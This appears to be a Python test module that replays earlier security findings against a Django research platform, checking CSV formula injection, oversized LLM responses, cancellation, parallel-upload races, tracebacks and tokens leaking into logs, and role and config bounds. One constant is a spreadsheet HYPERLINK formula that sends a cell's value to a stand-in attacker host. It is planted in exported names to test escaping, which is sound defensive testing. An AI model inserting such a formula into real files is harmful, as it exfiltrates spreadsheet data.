"""Round 3 of the hardening probe (issue 38): each finding of the security probe, replayed.

Imported by `hardening_probe.py` (`--only round3`); every case is a yes/no "did it fail?"
against whatever platform code is importable, so the same file measures before and after.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"a")'
# The benchmarks of the code under test (PROBE_CODE_DIR, as hardening_probe.py reads it).
BENCHMARKS = Path(os.environ.get("PROBE_CODE_DIR", Path(__file__).resolve().parent.parent)) / (
    "benchmarks"
)


def _formula_cells(text: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    return [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cheap_run(methods: list[str]):
    """Return a finished TF-IDF/BM25 run (3 folds) of a judged made-up study."""
    from tests.intruder.risk_fixtures import finished_cheap_run

    return finished_cheap_run(methods)


def probe_cpu_seam(case) -> None:
    category = "25 tests depend on the host CPU"
    os.environ["MODEL_RUNTIME_CPU"] = "none"
    try:
        from anonymize.model import resolve_anonymizer_precision

        case(
            category,
            "no units claimed: auto is not fp32",
            resolve_anonymizer_precision("auto") != "fp32",
        )
        os.environ["MODEL_RUNTIME_CPU"] = "bf16,vnni"
        case(
            category,
            "bf16+VNNI claimed: auto is not int8",
            resolve_anonymizer_precision("auto") != "int8",
        )
        case(
            category,
            "bf16 claimed: explicit bf16 refused",
            resolve_anonymizer_precision("bf16") != "bf16",
        )
    finally:
        os.environ.pop("MODEL_RUNTIME_CPU", None)


def probe_benchmarks_measure_something(case) -> None:
    category = "26 benchmarks that measure nothing"
    empty = Path(tempfile.mkdtemp(prefix="probe-empty-data-"))
    for name in ("study1.jsonl", "study2.jsonl"):
        (empty / name).write_text("")
    out = empty / "leak_checks.json"
    run = subprocess.run(
        [
            sys.executable,
            str(BENCHMARKS / "leak_checks.py"),
            "--data",
            str(empty),
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    case(category, "leak_checks on no texts exits 0", run.returncode == 0)
    case(category, "leak_checks on no texts writes a result", out.exists())


def probe_csv_downloads(case) -> None:
    from intruder.models import TargetPerson
    from tests.intruder.factories import logged_in

    category = "27 CSV downloads and files with formulas"
    run = _cheap_run(["textwash-model"])
    TargetPerson.objects.filter(study=run.study).update(name=FORMULA)
    client = logged_in(run.study.owner)
    client.raise_request_exception = False
    from django.urls import reverse

    r = client.get(reverse("analysis-table", args=[run.study.slug, "rates_target", "csv"]))
    case(
        category,
        "analysis rates_target.csv holds a formula",
        bool(_formula_cells(r.content.decode())),
    )

    url = reverse("risk-download", args=[run.study.slug, run.pk, "rates_target.csv"])
    body = client.get(url).content.decode()
    case(category, "risk rates_target.csv holds a formula", bool(_formula_cells(body)))
    from django.core.management import call_command

    for command in ("risk_report", "analyse_study"):
        out = Path(tempfile.mkdtemp(prefix=f"probe-{command}-"))
        with contextlib.suppress(SystemExit):
            call_command(command, run.study.slug, "--out", str(out), stdout=io.StringIO())
        cells = [c for p in out.rglob("*.csv") for c in _formula_cells(p.read_text())]
        case(category, f"{command} --out writes a formula cell", bool(cells))


def probe_llm_answers(case) -> None:
    import httpx

    from llm import LLMClient, LLMSettings

    category = "28 LLM answers and cancel"
    sent: list[int] = []
    pulled: list[int] = []

    def megabytes():
        yield b'{"choices":[{"message":{"content":"'
        for _ in range(25):  # a hostile endpoint's 25 MB "name"
            pulled.append(1)
            yield b"x" * 1_000_000
        yield b'"}}]}'

    def hostile(request: httpx.Request) -> httpx.Response:
        sent.append(1)
        return httpx.Response(200, content=megabytes())

    settings = LLMSettings(base_url="http://127.0.0.1:9/v1", model="m", cache_dir="", max_retries=0)
    client = LLMClient(settings, transport=httpx.MockTransport(hostile))
    with client, contextlib.suppress(Exception):  # refused: the question is how much was read
        client.complete([{"role": "user", "content": "who?"}])
    case(category, "a 25 MB answer is read whole", len(pulled) >= 25)

    from django.apps import apps

    case(
        category,
        "answers stored in the job result (no per-text rows)",
        not any(model.__name__ == "LLMGuess" for model in apps.get_models()),
    )
    stop = {"now": False}
    sent.clear()

    def answering(request: httpx.Request) -> httpx.Response:
        time.sleep(0.05)  # a slow endpoint, as in the finding (there: seconds per answer)
        sent.append(1)
        stop["now"] = len(sent) >= 2
        return httpx.Response(200, json={"choices": [{"message": {"content": '["A"]'}}]})

    settings = LLMSettings(base_url="http://127.0.0.1:9/v1", model="m", cache_dir="", concurrency=1)
    try:
        client = LLMClient(
            settings,
            transport=httpx.MockTransport(answering),
            should_stop=lambda: stop["now"],
            stop_poll_s=0.05,
        )
    except TypeError:
        client = LLMClient(settings, transport=httpx.MockTransport(answering))
    with client:
        prompts = [[{"role": "user", "content": f"text {n}"}] for n in range(20)]
        with contextlib.suppress(Exception):  # stopped
            client.complete_many([lambda p=p: client.complete(p) for p in prompts])
    # Cancelled after the 2nd answer; the one in flight then may still arrive.
    case(category, "texts sent after a cancel", len(sent) > 3)


def probe_parallel_imports(case) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from intruder.exchange import imports
    from tests.intruder.factories import logged_in, make_study

    category = "29 parallel imports of one file"
    study = make_study()
    client = logged_in(study.owner)
    client.raise_request_exception = False
    url = reverse("researcher-study-import", kwargs={"slug": study.slug})
    rows = [
        {"type": "target", "key": f"k{n}", "name": f"Person {n}", "group": "famous"}
        for n in range(3)
    ]
    content = "\n".join(json.dumps(r) for r in rows).encode()
    statuses: list[int] = []
    real = imports.validate_rows

    def others_upload_meanwhile(*args, **kwargs):
        checked = real(*args, **kwargs)
        if not statuses:  # the first upload is checked; the others arrive before it writes
            statuses.append(0)
            for n in (2, 3):
                upload = SimpleUploadedFile(f"same-{n}.jsonl", content)
                statuses.append(client.post(url, {"file": upload}).status_code)
        return checked

    imports.validate_rows = others_upload_meanwhile
    try:
        first = client.post(url, {"file": SimpleUploadedFile("same-1.jsonl", content)})
    finally:
        imports.validate_rows = real
    statuses.append(first.status_code)
    case(category, "three uploads at once give a 500", any(s >= 500 for s in statuses))
    case(category, "the file's targets are not there once", study.targets.count() != 3)


def probe_parallel_annotation_adds(case) -> None:
    """Nine posts of one file to an annotation project's "add texts" at once (threads, each
    on its own connection to the probe's SQLite file): 5 of 9 once answered 500."""
    import threading

    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.db import connections
    from django.urls import reverse

    from intruder.annotation import services
    from tests.intruder.factories import logged_in, make_user

    category = "30 parallel annotation adds of one file"
    owner = make_user()
    project = services.project_create(
        owner=owner, slug="probe-adds", title="adds", scheme="textwash", pre_annotate=False
    )
    url = reverse("annotation-add-texts", kwargs={"slug": project.slug})
    content = "\n".join(
        json.dumps({"id": f"d{n}", "text": f"Text {n} about Orla."}) for n in range(20)
    ).encode()
    clients = [logged_in(owner) for _ in range(9)]
    for c in clients:
        c.raise_request_exception = False
    barrier = threading.Barrier(len(clients))
    statuses: list[int] = []

    def post(c) -> None:
        try:
            barrier.wait()
            upload = SimpleUploadedFile("same.jsonl", content)
            statuses.append(c.post(url, {"file": upload}).status_code)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=post, args=(c,)) for c in clients]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    case(category, "a post gives a 500 or no answer", len(statuses) != 9 or max(statuses) >= 500)
    case(category, "the file's texts are not there once", project.documents.count() != 20)


def probe_server_error_log(case) -> None:
    from django.conf import settings

    category = "30 a 500 leaves no traceback"
    handlers = settings.LOGGING.get("handlers", {}) if isinstance(settings.LOGGING, dict) else {}
    path = next((h.get("filename") for h in handlers.values() if h.get("filename")), None)
    case(category, "no log file for server errors", path is None)
    if path is None:
        return
    import logging

    before = Path(path).read_text() if Path(path).exists() else ""
    try:
        raise RuntimeError("probe failure in /p/secret-token-123/")
    except RuntimeError:
        logging.getLogger("django.request").error(
            "Internal Server Error: /p/secret-token-123/", exc_info=True
        )
    for handler in logging.getLogger("django").handlers:
        handler.flush()
    written = Path(path).read_text()[len(before) :]
    case(category, "the log has no traceback", "Traceback" not in written)
    case(category, "the log shows the participant token", "secret-token-123" in written)


def probe_clear_only_run(case) -> None:
    from django.urls import reverse

    from tests.intruder.factories import logged_in

    category = "31 a report run of `clear` only"
    run = _cheap_run(["clear"])
    client = logged_in(run.study.owner)
    client.raise_request_exception = False
    slug = run.study.slug
    for name, url in (
        ("risk page", reverse("risk-page", args=[slug])),
        ("run's risk page", reverse("risk-page", args=[slug]) + f"?run={run.pk}"),
        ("report.html", reverse("risk-download", args=[slug, run.pk, "report.html"])),
        ("summary.json", reverse("risk-download", args=[slug, run.pk, "summary.json"])),
    ):
        case(category, f"{name} answers 500", client.get(url).status_code >= 500)


def probe_roles_and_bounds(case) -> None:
    from django.urls import reverse
    from rest_framework.test import APIClient

    from intruder.models import Job
    from intruder.risk import attack_runs
    from tests.intruder.factories import logged_in, make_job, make_member

    category = "32 roles and config bounds"
    run = _cheap_run(["textwash-model"])
    study = run.study
    viewer = make_member(study=study)
    traceback = 'Traceback (most recent call last):\n  File "/srv/app/x.py"\nValueError: x'
    job = make_job(study=study, created_by=study.owner, status=Job.Status.FAILED, error=traceback)
    api = APIClient(raise_request_exception=False)
    api.force_authenticate(viewer)
    body = api.get(f"/api/jobs/{job.pk}/").content.decode()
    case(category, "a viewer reads a traceback with server paths", "/srv/app" in body)
    page = logged_in(viewer)
    page.raise_request_exception = False
    r = page.post(reverse("risk-pdf-start", args=[study.slug, run.pk]))
    case(category, "a viewer queues the PDF job", r.status_code in (200, 302))
    for name, config in (
        ("num_threads 10000", {"num_threads": 10000}),
        ("top_k 10^8", {"top_k": 10**8}),
    ):
        try:
            attack_runs.attack_run_start(
                study=study,
                user=study.owner,
                attacks=["tfidf"],
                methods=["textwash-model"],
                folds=2,
                config=config,
            )
            accepted = True
        except Exception:
            accepted = False
        case(category, f"attack config {name} accepted", accepted)
        from intruder.risk.models import AttackRun

        AttackRun.objects.exclude(pk=run.pk).delete()


ROUND3 = [
    probe_cpu_seam,
    probe_benchmarks_measure_something,
    probe_csv_downloads,
    probe_llm_answers,
    probe_parallel_imports,
    probe_parallel_annotation_adds,
    probe_server_error_log,
    probe_clear_only_run,
    probe_roles_and_bounds,
]
